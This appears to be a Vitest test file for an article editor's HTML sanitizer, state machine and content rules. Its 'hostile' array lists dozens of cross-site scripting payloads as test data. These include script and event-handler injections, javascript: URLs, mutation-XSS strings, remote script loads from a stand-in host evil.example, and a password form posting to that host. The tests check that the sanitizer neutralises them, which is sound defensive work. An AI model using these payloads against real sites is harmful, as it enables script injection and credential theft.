import { describe, expect, it, test } from 'vitest';
import { cleanHtml } from '#kit/server/clean-html.ts';
import { cleanArticle, picturesOf, withSizes } from './clean-article.ts';
import { articleLimits } from './rules-limits.ts';
import { linksIn, missingFrom, wordsOf } from './rules.ts';
import { articleActions, articleStates, stateAfter } from './states.ts';

const id = '0199f3a0-0000-7000-8000-00000000000a';

describe('states', () => {
  const allowed: Record<string, string> = {
    'draft save': 'draft',
    'draft submit': 'pending',
    'draft unpublish': 'draft',
    'draft takeDown': 'refused',
    'pending withdraw': 'draft',
    'pending unpublish': 'pending',
    'pending approve': 'approved',
    'pending refuse': 'refused',
    'pending takeDown': 'refused',
    'approved save': 'draft',
    'approved unpublish': 'draft',
    'approved takeDown': 'refused',
    'refused save': 'draft',
    'refused unpublish': 'refused',
    'refused takeDown': 'refused',
  };
  it.each(articleStates.flatMap((state) => articleActions.map((action) => [state, action] as const)))('%s, %s', (state, action) => {
    expect(stateAfter(state, action)).toBe(allowed[`${state} ${action}`] ?? null);
  });
});

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="/media/../api/web/auth/signout">',
  `<img src="/media/${id}/1200.jpg?x=1" onload="alert(1)">`,
  `<img src="/media/${id}/1200.svg">`,
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p class="toast-region" id="main" data-island="b0">x</p>',
  '<div data-island="b0"><p onmouseover=alert(1)>x</p></div>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p title="x" onfocus=alert(1) tabindex=0 autofocus contenteditable>x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example" target="_blank" rel="follow">x</a>',
];

describe('what an author may write', () => {
  it.each(hostile)('is harmless: %s', (payload) => {
    for (const html of [payload, `<p>Before ${payload} after</p>`, payload.repeat(30)]) {
      const clean = cleanArticle(html);
      expect(clean).not.toMatch(/<(?!\/?(?:p|br|hr|h2|h3|ul|ol|li|blockquote|pre|code|strong|em|u|s|a|img)[\s>/])/i);
      // Outside of text: no attribute but these, no address but of these kinds.
      for (const [tag] of clean.matchAll(/<[^>]+>/g))
        expect(tag).toMatch(
          /^(?:<\/?[a-z0-9]+ ?\/?>|<a href="https:\/\/(?!evil)[^"]*" rel="ugc nofollow noopener">|<img src="\/media\/[0-9a-f-]{36}\/1200\.jpg" alt="[^"]*" \/>)$/,
        );
      expect(cleanArticle(clean)).toBe(clean);
      // What content does with it afterwards takes nothing away and lets nothing in.
      expect(cleanHtml(clean)).not.toMatch(/ on\w+=|javascript:|evil|<(?:script|style|svg|iframe)/i);
    }
  });

  it('leaves what an editor writes', () => {
    const html = `<h2>A</h2><p>b <strong>c</strong> <em>d</em> <u>e</u> <s>f</s></p><ul><li><p>g</p></li></ul><blockquote><p>h</p></blockquote><img src="/media/${id}/1200.jpg" alt="i" />`;
    expect(cleanArticle(html)).toBe(html);
    expect(cleanArticle('<h1>A</h1><h5>B</h5><b>c</b><i>d</i>')).toBe('<h2>A</h2><h3>B</h3><strong>c</strong><em>d</em>');
    expect(cleanArticle('<p>x</p><p></p><p><br></p>')).toBe('<p>x</p>');
    expect(cleanArticle('<p>a<p>b<p>c</p></p></p>'.repeat(40))).toMatch(/^<p>a<\/p><p>b<\/p><p>c<\/p>/);
    expect(cleanArticle('<a href="/product/brae-cup">y</a><a href="cup">z</a>')).toBe('<a href="/product/brae-cup" rel="ugc nofollow noopener">y</a>z');
    expect(cleanArticle('<a href="https://a.example/x">y</a>')).toBe('<a href="https://a.example/x" rel="ugc nofollow noopener">y</a>');
  });

  it('shows pictures in their size, and staff keep them', () => {
    const clean = cleanArticle(`<img src="/media/${id}/320.webp" alt=" a  &quot;b&quot; " width="1" onerror="x">`);
    expect(picturesOf(clean)).toEqual([{ id, described: true }]);
    const sized = withSizes(clean, new Map([[id, { width: 900, height: 600 }]]));
    expect(sized).toContain('width="900" height="600"');
    expect(picturesOf(sized)).toHaveLength(1);
    const shown = cleanHtml(sized);
    for (const part of [`src="/media/${id}/1200.jpg"`, 'width="900"', 'height="600"', 'loading="lazy"', `/media/${id}/480.webp 480w`])
      expect(shown).toContain(part);
    expect(cleanHtml(shown)).toBe(shown);
    expect(cleanHtml('<p>a<img src="https://evil.example/x.jpg" alt="b">c</p>')).toBe('<p>ac</p>');
  });
});

describe('rules', () => {
  const full = { title: 'T', body: `<p>${'word '.repeat(20)}</p>`, media: null, mediaAlt: '', pictures: [] };
  test('say what is missing', () => {
    expect(missingFrom(full)).toEqual({});
    expect(missingFrom({ ...full, title: '' })).toEqual({ title: 'required' });
    expect(missingFrom({ ...full, media: id })).toEqual({ pictureAlt: 'required' });
    expect(missingFrom({ ...full, pictures: [{ described: true }, { described: false }] })).toEqual({ body: 'undescribed' });
    const signs = '字'.repeat(articleLimits.leastWords);
    expect(missingFrom({ ...full, body: `<p>${signs}</p>` })).toEqual({});
    expect(missingFrom({ ...full, body: `<p>${signs.slice(1)}</p>` })).toEqual({ body: 'tooShort' });
    expect(missingFrom({ ...full, body: '<p>&nbsp;</p>'.repeat(30) })).toEqual({ body: 'tooShort' });
  });
  test('count characters and links', () => {
    expect(wordsOf('<p>a &lt; b</p><p>c</p>')).toBe('a . b c');
    expect(linksIn('<p><a rel="x">a</a><a href="b">b</a></p>')).toBe(2);
  });
});
